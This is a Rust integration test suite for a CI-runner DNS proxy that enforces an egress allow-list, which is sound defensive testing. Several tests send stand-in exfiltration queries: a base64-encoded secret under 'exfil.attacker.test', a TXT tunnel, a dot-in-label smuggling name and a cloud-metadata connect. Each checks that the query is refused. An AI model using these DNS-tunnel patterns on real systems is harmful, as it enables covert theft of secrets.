//! The per-runner DNS proxy: every query a job sends, to any resolver, on
//! UDP or TCP port 53, is answered by its runner's proxy. Allowed names are
//! forwarded to the fixture upstream and their addresses are in the map
//! before the job sees them; other names are refused and never leave.
//!
//! The agent runs with --ttl-floor 1s and --grace 2s (see the harness).

use std::time::Duration;

use egret_tests::{
    agent::cli,
    job, privileged,
    scenario::{Runners, Scenario},
    world::{self, CDN_PORT, CONTAINER_GATEWAY, DNS},
};

const VIA_UDP: &str = "udp@203.0.113.53:53";
const VIA_UDPC: &str = "udpc@203.0.113.53:53";
const VIA_TCP: &str = "tcp@203.0.113.53:53";

const ALLOW: &str = "\
- host: gitlab.test
  ports: [443]
- host: \"*.pkg.test\"
  ports: [443]
- host: alias.test
  ports: [443]
- host: big.test
- host: cdn.test
  ports: [8443]
- host: meta.test
- host: rebind.test
- host: mixed.test
";

fn fixture_saw(s: &Scenario, name: &str) -> bool {
    s.world
        .dns_queries()
        .iter()
        .any(|q| q.split_whitespace().next() == Some(name))
}

#[test]
fn allowed_names_resolve_through_any_resolver_and_connect() {
    if !privileged("allowed_names_resolve_through_any_resolver_and_connect") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    let cases = [
        // The fixture upstream itself, unconnected and connected UDP, TCP.
        (
            format!("dns-connect:gitlab.test:A:443:{VIA_UDP}"),
            "203.0.113.53:53",
        ),
        (
            format!("dns-connect:gitlab.test:A:443:{VIA_UDPC}"),
            "203.0.113.53:53",
        ),
        (
            format!("dns-connect:gitlab.test:A:443:{VIA_TCP}"),
            "203.0.113.53:53",
        ),
        // Any other resolver: the attacker's, a public one, systemd's stub,
        // an IPv6 one. All reach the proxy, and the reply names the resolver
        // asked, or the stub would drop it.
        (
            "dns-connect:gitlab.test:A:443:udpc@198.51.100.66:53".into(),
            "198.51.100.66:53",
        ),
        (
            "dns-connect:gitlab.test:A:443:udp@127.0.0.53:53".into(),
            "127.0.0.53:53",
        ),
        (
            "dns-connect:gitlab.test:A:443:tcp@1.1.1.1:53".into(),
            "1.1.1.1:53",
        ),
        (
            "dns-connect:gitlab.test:A:443:udp@[2001:db8::53]:53".into(),
            "[2001:db8::53]:53",
        ),
        (
            "dns-connect:gitlab.test:A:443:udp@[::ffff:203.0.113.53]:53".into(),
            "[::ffff:203.0.113.53]:53",
        ),
    ];
    for (action, peer) in &cases {
        let o = &s.job(&[action])[0];
        assert!(o.ok(), "{action}: {o:?}");
        assert_eq!(
            o.banner.as_deref(),
            Some("fixture 203.0.113.10:443"),
            "{o:?}"
        );
        assert_eq!(o.peer.as_deref(), Some(*peer), "{action}: {o:?}");
    }
    // AAAA, and a wildcard entry.
    let o = &s.job(&[&format!("dns-connect:gitlab.test:AAAA:443:{VIA_UDP}")])[0];
    assert_eq!(
        o.banner.as_deref(),
        Some("fixture [2001:db8::10]:443"),
        "{o:?}"
    );
    let o = &s.job(&[&format!("dns-connect:files.pkg.test:A:443:{VIA_UDP}")])[0];
    assert_eq!(
        o.banner.as_deref(),
        Some("fixture 203.0.113.22:443"),
        "{o:?}"
    );
    assert!(fixture_saw(&s, "files.pkg.test"));
    // The wildcard opened only what the job resolved, only on its ports
    // (no other entry of this policy answers 203.0.113.22).
    let o = s.job(&["tcp:203.0.113.22:80", "tcp:203.0.113.11:443"]);
    assert!(o[0].eperm() && o[1].eperm(), "{o:?}");
}

#[test]
fn a_name_outside_the_policy_is_refused_and_never_leaves() {
    if !privileged("a_name_outside_the_policy_is_refused_and_never_leaves") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    let secret = "c2VjcmV0LXRva2Vu.exfil.attacker.test";
    for via in [VIA_UDP, VIA_UDPC, VIA_TCP, "udp@[2001:db8::53]:53"] {
        let action = format!("dns:{secret}:A:{via}");
        let o = job::run(&s.world.host, Some(&s.cgroup.procs("ci")), &[&action]).remove(0);
        assert_eq!(o.rcode.as_deref(), Some("Refused"), "{action}: {o:?}");
        assert_eq!(o.answers.as_deref(), Some(&[][..]), "{o:?}");
        let ev = s
            .wait_event(|e| e["reason"] == "dns_refused" && e["pid"] == o.pid)
            .unwrap_or_else(|| panic!("dns_refused event for {action}: {:?}", s.agent().events()));
        assert_eq!(ev["host"], secret, "{ev}");
        assert_eq!(ev["runner"], "ci", "{ev}");
        assert_eq!(ev["comm"], "egret-testkit", "{ev}");
        assert_eq!(ev["action"], "deny", "{ev}");
        assert_eq!(
            ev["cgroup"].as_str(),
            Some(s.runner_cgroup.as_str()),
            "{ev}"
        );
    }
    // A TXT query (the classic tunnel) and a name below an allowed one that
    // the policy does not cover.
    let o = s.job(&[
        &format!("dns:{secret}:TXT:{VIA_UDP}"),
        &format!("dns:x.gitlab.test:A:{VIA_UDP}"),
    ]);
    assert!(
        o.iter().all(|o| o.rcode.as_deref() == Some("Refused")),
        "{o:?}"
    );
    let out = cli(&s.world, &["status", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("status json");
    assert!(
        v["agent"]["dns"]["refused"].as_u64() >= Some(6),
        "{}",
        v["agent"]["dns"]
    );
    assert!(cli(&s.world, &["status"]).stdout.contains("refused"));
    let seen = s.world.dns_queries();
    assert!(
        !seen
            .iter()
            .any(|q| q.contains("attacker.test") || q.starts_with("x.gitlab.test")),
        "a refused name reached the upstream: {seen:?}"
    );
}

#[test]
fn refusals_can_be_nxdomain() {
    if !privileged("refusals_can_be_nxdomain") {
        return;
    }
    let mut s = Scenario::prepare("enforce", ALLOW);
    let policy = std::fs::read_to_string(&s.policy)
        .expect("policy")
        .replace("    dns:\n", "    dns:\n      refuse_with: nxdomain\n");
    world::write_file(&s.policy, &policy);
    s.start_agent();
    let o = &s.job(&[&format!("dns:nope.attacker.test:A:{VIA_UDP}")])[0];
    assert_eq!(o.rcode.as_deref(), Some("NXDomain"), "{o:?}");
}

#[test]
fn a_cname_chain_is_credited_to_the_question() {
    if !privileged("a_cname_chain_is_credited_to_the_question") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    // edge.cdn-provider.test is not in the policy, only alias.test is.
    let o = &s.job(&[&format!("dns-connect:alias.test:A:443:{VIA_UDP}")])[0];
    assert_eq!(
        o.banner.as_deref(),
        Some("fixture 203.0.113.21:443"),
        "{o:?}"
    );
    let o = &s.job(&[&format!("dns:edge.cdn-provider.test:A:{VIA_UDP}")])[0];
    assert_eq!(o.rcode.as_deref(), Some("Refused"), "{o:?}");
}

#[test]
fn large_answers_retry_over_tcp() {
    if !privileged("large_answers_retry_over_tcp") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    // 40 addresses do not fit in 512 bytes: the UDP answer comes back
    // truncated, the job asks again over TCP, through the proxy.
    let o = &s.job(&[&format!("dns-connect:big.test:A:{CDN_PORT}:{VIA_UDP}")])[0];
    assert!(o.ok(), "{o:?}");
    assert_eq!(o.answers.as_ref().map(Vec::len), Some(40), "{o:?}");
    // Every one of them was learned, not only the first.
    let o = s.job(&[
        &format!("tcp:203.0.113.199:{CDN_PORT}"),
        &format!("tcp:203.0.113.200:{CDN_PORT}"),
    ]);
    assert!(o[0].ok() && o[1].eperm(), "{o:?}");
}

#[test]
fn private_and_metadata_answers_are_stripped() {
    if !privileged("private_and_metadata_answers_are_stripped") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    let o = s.job(&[
        &format!("dns:rebind.test:A:{VIA_UDP}"),
        &format!("dns:meta.test:A:{VIA_UDP}"),
        &format!("dns:mixed.test:A:{VIA_UDP}"),
    ]);
    assert_eq!(o[0].answers.as_deref(), Some(&[][..]), "{o:?}");
    assert_eq!(o[1].answers.as_deref(), Some(&[][..]), "{o:?}");
    assert_eq!(
        o[2].answers.as_deref(),
        Some(&["203.0.113.21".to_owned()][..]),
        "{o:?}"
    );
    s.assert_egret_refuses("tcp:10.0.0.5:22");
    let o = &s.job(&["tcp:169.254.169.254:80"])[0];
    assert!(o.eperm(), "{o:?}");
}

#[test]
fn an_entry_can_keep_private_answers() {
    if !privileged("an_entry_can_keep_private_answers") {
        return;
    }
    let s = Scenario::start(
        "enforce",
        "- host: rebind.test\n  ports: [22]\n  private_answers: true\n- host: meta.test\n  private_answers: true\n",
    );
    let o = &s.job(&[&format!("dns-connect:rebind.test:A:22:{VIA_UDP}")])[0];
    assert_eq!(o.banner.as_deref(), Some("fixture 10.0.0.5:22"), "{o:?}");
    // Metadata is never kept.
    let o = &s.job(&[&format!("dns:meta.test:A:{VIA_UDP}")])[0];
    assert_eq!(o.answers.as_deref(), Some(&[][..]), "{o:?}");
}

#[test]
fn rotating_addresses_never_race_the_connect() {
    if !privileged("rotating_addresses_never_race_the_connect") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    let o = &s.job(&[&format!("dns-rounds:500:cdn.test:{CDN_PORT}:{VIA_UDPC}")])[0];
    assert_eq!(
        (o.oks, o.eperms, o.others),
        (Some(500), Some(0), Some(0)),
        "{o:?}"
    );
    assert!(
        o.count.is_some_and(|distinct| distinct >= 100),
        "the zone should have rotated through many addresses: {o:?}"
    );
}

#[test]
fn an_expired_address_closes_for_new_connects_only() {
    if !privileged("an_expired_address_closes_for_new_connects_only") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    // TTL 1 s, floor 1 s, grace 2 s: gone 3 s after the answer.
    let o = &s.job(&[&format!("dns:cdn.test:A:{VIA_UDP}")])[0];
    let ip = o
        .answers
        .as_ref()
        .and_then(|a| a.first())
        .expect("an answer")
        .clone();
    let held = s.start_job(&[&format!("tcp-hold:{ip}:{CDN_PORT}:6000")]);
    // Gone once TTL and grace have passed; polled, not slept for.
    egret_tests::poll_until(
        "a new connect failing with EPERM after expiry",
        Duration::from_secs(5),
        || s.job(&[&format!("tcp:{ip}:{CDN_PORT}")])[0].eperm(),
    );
    let held = held.wait().remove(0);
    assert!(held.ok(), "the connection opened before expiry: {held:?}");
}

#[test]
fn what_one_runner_resolved_stays_closed_to_another() {
    if !privileged("what_one_runner_resolved_stays_closed_to_another") {
        return;
    }
    let r = Runners::start(
        &["a", "b"],
        &format!("- host: cdn.test\n  ports: [{CDN_PORT}]"),
        &[],
        |_| {},
    );
    let in_a = r
        .job(
            "a",
            &[&format!("dns-connect:cdn.test:A:{CDN_PORT}:{VIA_UDP}")],
        )
        .remove(0);
    assert!(in_a.ok(), "{in_a:?}");
    let ip = in_a
        .answers
        .as_ref()
        .and_then(|a| a.first())
        .expect("answer")
        .clone();
    let in_b = r.job("b", &[&format!("tcp:{ip}:{CDN_PORT}")]).remove(0);
    assert!(
        in_b.eperm(),
        "runner b reached what only a resolved: {in_b:?}"
    );
}

#[test]
fn a_job_in_its_own_network_namespace_resolves_and_connects() {
    if !privileged("a_job_in_its_own_network_namespace_resolves_and_connects") {
        return;
    }
    let mut s = Scenario::prepare("enforce", ALLOW);
    let policy = std::fs::read_to_string(&s.policy).expect("policy").replace(
        "    dns:\n",
        &format!("    dns:\n      listen: {CONTAINER_GATEWAY}\n"),
    );
    world::write_file(&s.policy, &policy);
    s.world.container();
    s.start_agent();
    let procs = s.cgroup.procs("ci");
    let container = s.world.container_ns(0);
    for via in [VIA_UDP, VIA_UDPC, VIA_TCP, "udp@198.51.100.66:53"] {
        let action = format!("dns-connect:gitlab.test:A:443:{via}");
        let o = job::run(container, Some(&procs), &[&action]).remove(0);
        assert_eq!(
            o.banner.as_deref(),
            Some("fixture 203.0.113.10:443"),
            "{action}: {o:?}"
        );
        let asked = via.split_once('@').map(|(_, a)| a);
        assert_eq!(o.peer.as_deref(), asked, "{o:?}");
    }
    let o = job::run(
        container,
        Some(&procs),
        &[
            &format!("dns:leak.attacker.test:A:{VIA_UDP}"),
            "tcp:198.51.100.66:443",
        ],
    );
    assert_eq!(o[0].rcode.as_deref(), Some("Refused"), "{o:?}");
    assert!(o[1].eperm(), "{o:?}");
    assert!(!fixture_saw(&s, "leak.attacker.test"));
}

#[test]
fn without_a_listen_address_a_container_job_cannot_use_dns() {
    if !privileged("without_a_listen_address_a_container_job_cannot_use_dns") {
        return;
    }
    let mut s = Scenario::prepare("enforce", ALLOW);
    s.world.container();
    s.start_agent();
    let o = job::run(
        s.world.container_ns(0),
        Some(&s.cgroup.procs("ci")),
        &[&format!("dns:gitlab.test:A:{VIA_UDP}")],
    )
    .remove(0);
    assert!(o.eperm(), "{o:?}");
    let ev = s
        .wait_event(|e| e["reason"] == "dns_refused" && e["pid"] == o.pid)
        .expect("event");
    assert_eq!(ev["dst"], DNS, "{ev}");
}

#[test]
fn learned_addresses_outlive_the_agent_and_new_names_fail_closed() {
    if !privileged("learned_addresses_outlive_the_agent_and_new_names_fail_closed") {
        return;
    }
    let mut s = Scenario::start("enforce", ALLOW);
    let o = &s.job(&[&format!("dns-connect:files.pkg.test:A:443:{VIA_UDP}")])[0];
    assert!(o.ok(), "{o:?}");
    let port = status_port(&s);
    s.kill_agent();
    let o = s.job(&[
        "tcp:203.0.113.22:443",
        &format!("dns:files.pkg.test:A:{VIA_UDPC}"),
        &format!("dns:gitlab.test:A:{VIA_TCP}"),
        &format!("dns:x.attacker.test:A:{VIA_UDPC}"),
    ]);
    assert!(
        o[0].ok(),
        "a learned address while the agent is down: {o:?}"
    );
    assert!(
        o[1..].iter().all(|o| !o.ok() && !o.eperm()),
        "DNS must fail while the proxy is away: {o:?}"
    );
    // Back again: the same port, the learned address kept.
    s.start_agent();
    assert_eq!(status_port(&s), port);
    let o = s.job(&[
        "tcp:203.0.113.22:443",
        &format!("dns-connect:gitlab.test:A:443:{VIA_UDPC}"),
    ]);
    assert!(o.iter().all(|o| o.ok()), "{o:?}");
}

fn status_port(s: &Scenario) -> u64 {
    let out = cli(&s.world, &["status", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("status json");
    let port = v["runners"][0]["dns_proxy_port"].as_u64().expect("port");
    assert!(port > 0, "{v}");
    port
}

#[test]
fn dns_over_tls_and_doh_resolvers_need_an_entry_naming_them() {
    if !privileged("dns_over_tls_and_doh_resolvers_need_an_entry_naming_them") {
        return;
    }
    // Everything allowed, on every port: still not DoT, nor a DoH resolver.
    let s = Scenario::start("enforce", "- cidr: 0.0.0.0/0\n");
    assert!(s.job(&["tcp:198.51.100.66:443"])[0].ok());
    s.assert_egret_refuses("tcp:198.51.100.66:853");
    s.assert_egret_refuses("tcp:1.1.1.1:443");
    let ev = s
        .wait_event(|e| e["dst"] == "1.1.1.1")
        .expect("event for the DoH resolver");
    assert_eq!(ev["reason"], "not_allowed", "{ev}");

    // Named explicitly, they open.
    world::write_file(
        &s.policy,
        &egret_tests::scenario::policy(
            &s.runner_cgroup,
            "enforce",
            "- cidr: 1.1.1.1/32\n  ports: [443]\n- cidr: 198.51.100.66/32\n  ports: [853]\n",
        ),
    );
    let out = cli(&s.world, &["reload"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    let o = s.job(&["tcp:1.1.1.1:443", "tcp:198.51.100.66:853"]);
    assert!(o.iter().all(|o| o.ok()), "{o:?}");
}

#[test]
fn an_audit_runner_has_refused_names_answered_and_reported() {
    if !privileged("an_audit_runner_has_refused_names_answered_and_reported") {
        return;
    }
    let s = Scenario::start("audit", ALLOW);
    let o = &s.job(&[&format!("dns:audit-me.attacker.test:A:{VIA_UDP}")])[0];
    // Forwarded: the fixture answers, and saw it.
    assert_eq!(o.rcode.as_deref(), Some("NXDomain"), "{o:?}");
    assert!(fixture_saw(&s, "audit-me.attacker.test"));
    let ev = s
        .wait_event(|e| e["reason"] == "dns_refused" && e["pid"] == o.pid)
        .expect("event");
    assert_eq!(ev["action"], "audit", "{ev}");
}

#[test]
fn dns_follows_lockdown() {
    if !privileged("dns_follows_lockdown") {
        return;
    }
    let s = Scenario::start(
        "enforce",
        "- host: gitlab.test\n  ports: [443]\n  forge: true\n- host: registry.test\n  ports: [443]\n",
    );
    // Keeping the forge keeps resolving it.
    assert_eq!(cli(&s.world, &["lockdown", "--keep-forge"]).code, 0);
    let o = s.job(&[
        &format!("dns-connect:gitlab.test:A:443:{VIA_UDP}"),
        &format!("dns-connect:registry.test:A:443:{VIA_UDP}"),
    ]);
    assert_eq!(
        o[0].banner.as_deref(),
        Some("fixture 203.0.113.10:443"),
        "{o:?}"
    );
    assert!(o[1].eperm(), "only the forge under --keep-forge: {o:?}");
    assert_eq!(cli(&s.world, &["unlock"]).code, 0);

    // A full lockdown refuses DNS at the socket.
    assert_eq!(cli(&s.world, &["lockdown"]).code, 0);
    let o = &s.job(&[&format!("dns:gitlab.test:A:{VIA_UDP}")])[0];
    assert!(o.eperm(), "{o:?}");
    let ev = s
        .wait_event(|e| e["reason"] == "lockdown" && e["pid"] == o.pid)
        .expect("event");
    assert_eq!(ev["port"], 53, "{ev}");
    assert_eq!(cli(&s.world, &["unlock"]).code, 0);
}

#[test]
fn a_reload_changes_which_names_resolve() {
    if !privileged("a_reload_changes_which_names_resolve") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    let port_before = status_port(&s);
    let ask = format!("dns:files.pkg.test:A:{VIA_UDP}");
    assert_eq!(s.job(&[&ask])[0].rcode.as_deref(), Some("NoError"));
    world::write_file(
        &s.policy,
        &egret_tests::scenario::policy(
            &s.runner_cgroup,
            "enforce",
            "- host: gitlab.test\n  ports: [443]\n",
        ),
    );
    let out = cli(&s.world, &["reload"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    let o = s.job(&[&ask, &format!("dns-connect:gitlab.test:A:443:{VIA_UDP}")]);
    assert_eq!(o[0].rcode.as_deref(), Some("Refused"), "{o:?}");
    assert!(o[1].ok(), "{o:?}");
    // The proxy kept its port across the reload.
    assert_eq!(status_port(&s), port_before);
}

/// A dot inside a wire label reads, as text, like a separator: the name
/// `["c2data", "x.pkg", "test"]` prints as `c2data.x\.pkg.test` and looked
/// like a name under `*.pkg.test`, yet it is resolved under `test` by
/// whoever serves that zone. It is refused and never leaves the host.
#[test]
fn a_dot_inside_a_label_does_not_pass_for_an_allowed_name() {
    if !privileged("a_dot_inside_a_label_does_not_pass_for_an_allowed_name") {
        return;
    }
    let s = Scenario::start("enforce", ALLOW);
    let o = &s.job(&[&format!("dns:c2data.x\\.pkg.test:A:{VIA_UDP}")])[0];
    assert_eq!(o.rcode.as_deref(), Some("Refused"), "{o:?}");
    let ev = s
        .wait_event(|e| e["reason"] == "dns_refused" && e["pid"] == o.pid)
        .expect("a dns_refused event");
    assert_eq!(ev["host"], "c2data.x\\.pkg.test", "{ev}");
    assert!(
        !s.world.dns_queries().iter().any(|q| q.contains("c2data")),
        "the upstream never saw it: {:?}",
        s.world.dns_queries()
    );
    // The same labels without the dot are an ordinary allowed name.
    let o = &s.job(&[&format!("dns:files.pkg.test:A:{VIA_UDP}")])[0];
    assert_eq!(o.rcode.as_deref(), Some("NoError"), "{o:?}");
}
